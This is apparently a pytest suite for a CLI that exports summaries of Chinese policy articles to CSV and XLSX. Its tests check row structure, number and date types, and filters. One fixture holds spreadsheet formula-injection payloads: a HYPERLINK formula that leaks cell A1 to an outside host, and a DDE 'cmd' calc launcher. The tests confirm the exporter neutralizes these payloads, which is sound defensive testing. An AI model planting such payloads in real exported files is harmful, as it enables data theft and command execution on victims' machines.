"""`summarizer export`: the table of initiatives and figures as CSV and XLSX (issue 15)."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from summarizer.briefing.export.table import COLUMNS
from summarizer.briefing.memo_run import load_run
from summarizer.cli import main
from summarizer.core.models import ArticleSummary, Initiative, Locality, Outcome, Span

try:
    from tests.test_memo_fixture import write_run
except ImportError:  # tests/ is not a package: pytest put it on sys.path
    from test_memo_fixture import write_run

ROOT = Path(__file__).resolve().parents[1]
GOLD, SEEDS = ROOT / "eval" / "gold", ROOT / "seeds"

HYPERLINK = '=HYPERLINK("//x.cn?"&A1,"点我")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS, MINUS, TAB = "+1+1 改革", "-2+3", "\t=1+1"
HOSTILE_TEXT = f"{HYPERLINK}\n{AT_SUM}\n{PLUS}，{MINUS}，降低5%。\n"


def invoke(*args: str):
    return CliRunner().invoke(main, [str(a) for a in args])


def export(run: Path, out: Path, *args: str, sources: Path = SEEDS) -> Path:
    result = invoke("export", run, "-o", out, "--sources", sources, *args)
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == str(out)
    return out


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def read_xlsx(path: Path):
    return load_workbook(path).active


def xlsx_records(path: Path) -> list[dict]:
    ws = read_xlsx(path)
    header = [c.value for c in ws[1]]
    return [dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2, values_only=True)]


@pytest.fixture(scope="module")
def gold_tables(tmp_path_factory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("tables")
    return export(GOLD, tmp / "t.csv"), export(GOLD, tmp / "t.xlsx")


def expected_rows(summaries: list[ArticleSummary]) -> list[tuple[str, str, str | None]]:
    """(article, initiative, outcome) for every outcome, and (article, initiative, None) for an
    initiative without outcomes: what the table must hold, in order."""
    return [
        (s.article_id, ini.name, o.description if o else None)
        for s in summaries
        for ini in s.initiatives
        for o in (ini.outcomes or [None])
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_one_row_per_outcome_plus_one_per_outcome_less_initiative(gold_tables, fmt):
    path = gold_tables[0] if fmt == "csv" else gold_tables[1]
    records = read_csv(path) if fmt == "csv" else xlsx_records(path)
    expected = expected_rows(load_run(GOLD))
    assert len(expected) == 167  # 121 outcomes + 46 initiatives without one, in the five gold files
    got = [(r["article_id"], r["initiative"], r["outcome_description"] or None) for r in records]
    assert got == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_value_text_is_present(gold_tables, fmt):
    path = gold_tables[0] if fmt == "csv" else gold_tables[1]
    records = read_csv(path) if fmt == "csv" else xlsx_records(path)
    gold = [o.value_text for s in load_run(GOLD) for i in s.initiatives for o in i.outcomes if o.value_text]
    assert len(gold) == 84
    assert [r["value_text"] for r in records if r["value_text"]] == gold


def test_every_row_cites_its_verbatim_evidence_in_the_source(gold_tables):
    texts = {p.stem: p.read_text(encoding="utf-8") for p in SEEDS.glob("*.txt")}
    for r in xlsx_records(gold_tables[1]):
        start, end = r["start"], r["end"]
        assert isinstance(start, int) and texts[r["article_id"]][start:end] == r["evidence"]
        assert r["citation"] == f"{r['article_id']}:{start}-{end}"


def test_csv_is_utf8_with_bom_and_a_header(gold_tables):
    raw = gold_tables[0].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8")
    assert text[1:].startswith(",".join(COLUMNS) + "\r\n") and "潮州市" in text


def test_xlsx_opens_with_frozen_header_filters_and_widths(gold_tables):
    ws = read_xlsx(gold_tables[1])
    assert [c.value for c in ws[1]] == list(COLUMNS)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:T{ws.max_row}" and ws.max_row == 168
    assert all(ws.column_dimensions[c].width >= 8 for c in "ABCDEFGHIJKLMNOPQRST")
    assert ws.column_dimensions["B"].width > ws.column_dimensions["S"].width  # titles are wide


def test_xlsx_numbers_are_numbers_and_dates_are_dates(gold_tables):
    ws = read_xlsx(gold_tables[1])
    col = {name: i for i, name in enumerate(COLUMNS)}
    rows = list(ws.iter_rows(min_row=2))
    values = [r[col["value"]] for r in rows if r[col["value"]].value is not None]
    assert len(values) == 84 and all(c.data_type == "n" for c in values)
    assert any(c.value == 40_000_000_000 for c in values)  # 400亿元
    assert all(r[col["start"]].data_type == "n" and r[col["end"]].data_type == "n" for r in rows)
    dated = [r[col["published"]] for r in rows if r[col["published"]].value is not None]
    assert dated and all(c.is_date for c in dated)
    assert {c.value for c in dated} == {datetime(2024, 7, 18), datetime(2023, 12, 21)}


def test_csv_values_are_plain_numbers_and_iso_dates(gold_tables):
    records = read_csv(gold_tables[0])
    assert {r["published"] for r in records} == {"2024-07-18", "2023-12-21", ""}
    assert "40000000000" in {r["value"] for r in records}


def hostile_summary() -> ArticleSummary:
    def span(passage: str) -> Span:
        start = HOSTILE_TEXT.index(passage)
        return Span(text=passage, start=start, end=start + len(passage))

    return ArticleSummary(
        article_id="009_formula",
        title=HYPERLINK,
        source=AT_SUM,
        published="2024-01-02",
        locality=Locality(name="某县", level="county"),
        summary="公式注入。",
        initiatives=[
            Initiative(
                name=HYPERLINK,
                domain="other",
                description=PLUS,
                actors=[AT_SUM],
                evidence=[span(HYPERLINK)],
                outcomes=[
                    Outcome(
                        description=AT_SUM,
                        metric=TAB,
                        value_text=MINUS,
                        value=-5,
                        unit="%",
                        evidence=span(MINUS),
                    )
                ],
            ),
            Initiative(name=MINUS, domain="other", description=PLUS, evidence=[span(PLUS)]),
        ],
    )


@pytest.fixture
def hostile_tables(tmp_path) -> tuple[Path, Path]:
    run, src = write_run(tmp_path, [hostile_summary()], {"009_formula": HOSTILE_TEXT})
    return export(run, tmp_path / "h.csv", sources=src), export(run, tmp_path / "h.xlsx", sources=src)


HOSTILE_CELLS = {
    "title": HYPERLINK,
    "source": AT_SUM,
    "initiative": HYPERLINK,
    "actors": AT_SUM,
    "initiative_description": PLUS,
    "outcome_description": AT_SUM,
    "metric": TAB,
    "value_text": MINUS,
    "evidence": MINUS,
}


def test_formula_cells_are_neutralized_in_csv(hostile_tables):
    first, second = read_csv(hostile_tables[0])
    for column, text in HOSTILE_CELLS.items():
        assert first[column] == "'" + text, column
    assert second["initiative"] == "'" + MINUS and second["evidence"] == "'" + PLUS
    assert first["value"] == "-5"  # a number is data, not a formula: left as it is


def test_formula_cells_are_strings_in_xlsx(hostile_tables):
    ws = read_xlsx(hostile_tables[1])
    header = [c.value for c in ws[1]]
    first = dict(zip(header, ws[2], strict=True))
    for column, text in HOSTILE_CELLS.items():
        cell = first[column]
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True), column
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert first["value"].data_type == "n" and first["value"].value == -5


def test_filters_are_the_memos(tmp_path):
    out = export(GOLD, tmp_path / "f.csv", "--locality", "潮州市", "--min-figures", "1")
    rows = read_csv(out)
    chaozhou = [s for s in load_run(GOLD) if s.locality.name == "潮州市"]
    kept = [i for s in chaozhou for i in s.initiatives if any(o.value_text for o in i.outcomes)]
    assert len(rows) == sum(len(i.outcomes) for i in kept) > 0
    assert {r["locality"] for r in rows} == {"潮州市"}
    out = export(
        GOLD, tmp_path / "d.xlsx", "--domain", "ecology", "--domain", "party_cadre", "--locality", "湖南省"
    )
    hunan = [s for s in load_run(GOLD) if s.locality.province == "湖南省"]
    kept = [
        (s.article_id, i.name) for s in hunan for i in s.initiatives if i.domain in {"ecology", "party_cadre"}
    ]
    assert len(kept) == 4
    assert list(dict.fromkeys((r["article_id"], r["initiative"]) for r in xlsx_records(out))) == kept


@pytest.mark.parametrize("command", ["export", "memo"])
@pytest.mark.parametrize(
    ("case", "run", "out"),
    [
        ("missing run dir", "no/such/run", "ok"),
        ("unwritable -o", "gold", "blocker/x"),
        ("unknown extension", "gold", "table.txt"),
        ("-o is a folder", "gold", "folder"),
    ],
)
def test_bad_input_is_one_line_exit_2(tmp_path, command, case, run, out):
    (tmp_path / "blocker").write_text("a file, not a folder", encoding="utf-8")
    (tmp_path / "folder.csv").mkdir()
    (tmp_path / "folder.docx").mkdir()
    suffix = ".csv" if command == "export" else ".docx"
    target = tmp_path / (out if out.endswith(".txt") else out + suffix)
    result = invoke(command, GOLD if run == "gold" else tmp_path / run, "-o", target, "--sources", SEEDS)
    assert result.exit_code == 2, (case, result.output)
    assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output
    [line] = result.stderr.strip().splitlines()
    assert line.startswith("error: "), line
